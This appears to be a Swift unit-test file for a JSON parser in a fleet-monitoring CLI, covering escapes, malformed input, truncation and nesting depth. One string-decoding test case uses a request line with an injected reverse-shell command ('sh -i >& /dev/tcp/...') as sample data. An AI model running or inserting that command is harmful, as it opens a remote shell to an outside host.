import Foundation
import Testing

@testable import FleetCLI

/// The API-line JSON parser: what the aggregator sends, escapes, and malformed input at every offset.
@Suite struct JSONValueTests {
    @Test func parsesAnAPILine() throws {
        let line = #"{"agent":"vm-1","ts":1732871234.123456,"id.orig_p":53,"answers":["93.184.216.34","x"],"TTLs":[300.0],"AA":false,"rtt":null,"n":-1.5e-3}"#
        let value = try JSONValue.parse(Array(line.utf8))
        guard case .object(let object) = value else { Issue.record("not an object"); return }
        #expect(object["agent"] == .string("vm-1"))
        #expect(object["ts"] == .number("1732871234.123456"))
        #expect(object["id.orig_p"] == .number("53"))
        #expect(object["answers"] == .array([.string("93.184.216.34"), .string("x")]))
        #expect(object["TTLs"] == .array([.number("300.0")]))
        #expect(object["AA"] == .bool(false))
        #expect(object["rtt"] == .null)
        #expect(object["n"] == .number("-1.5e-3"))
    }

    @Test(arguments: [
        (#""a\"b\\c\/d\n\t""#, "a\"b\\c/d\n\t"),
        (#""caf\u00e9 \u20ac""#, "café €"),
        (#""\ud83d\ude00""#, "😀"),
        (#""\ud83d x""#, "\u{FFFD} x"),
        ("\"GET /dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1\"",
         "GET /dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1"),
    ])
    func decodesStrings(json: String, expected: String) throws {
        #expect(try JSONValue.parse(Array(json.utf8)) == .string(expected))
    }

    @Test func agreesWithJSONSerializationOnStrings() throws {
        // Every escape Foundation writes round-trips.
        let texts = ["plain", "quote\" backslash\\ slash/", "\u{01}\u{1F}", "tab\there", "é😀€", ""]
        for text in texts {
            let data = try JSONSerialization.data(withJSONObject: [text])
            #expect(try JSONValue.parse([UInt8](data)) == .array([.string(text)]))
        }
    }

    @Test(arguments: [
        "", " ", "{", "}", "[1,]", "{\"a\"}", "{\"a\":}", "{\"a\":1,}", "01x", "-", "1.", "1e", "tru", "nul",
        "\"abc", "\"\\x\"", "\"\\u12\"", "[1 2]", "{\"a\":1}{", "\"a\u{01}\"",
    ])
    func rejectsMalformed(json: String) {
        #expect(throws: JSONValue.ParseError.self) { try JSONValue.parse(Array(json.utf8)) }
    }

    @Test func everyTruncationOfAValidLineIsRejectedWithoutACrash() {
        let line = Array(#"{"agent":"a","x":[1,{"y":"\u00e9\n"}],"z":true,"w":null,"v":-0.5e+2}"#.utf8)
        #expect((try? JSONValue.parse(line)) != nil)
        for cut in 0..<line.count {
            #expect(throws: JSONValue.ParseError.self) { try JSONValue.parse(line[..<cut]) }
        }
    }

    @Test func nestingIsBounded() {
        let deep = Array(repeating: UInt8(ascii: "["), count: 100_000) + Array(repeating: UInt8(ascii: "]"), count: 100_000)
        #expect(throws: JSONValue.ParseError.self) { try JSONValue.parse(deep) }
        let fine = Array(repeating: UInt8(ascii: "["), count: 10) + Array(repeating: UInt8(ascii: "]"), count: 10)
        #expect((try? JSONValue.parse(fine)) != nil)
    }
}
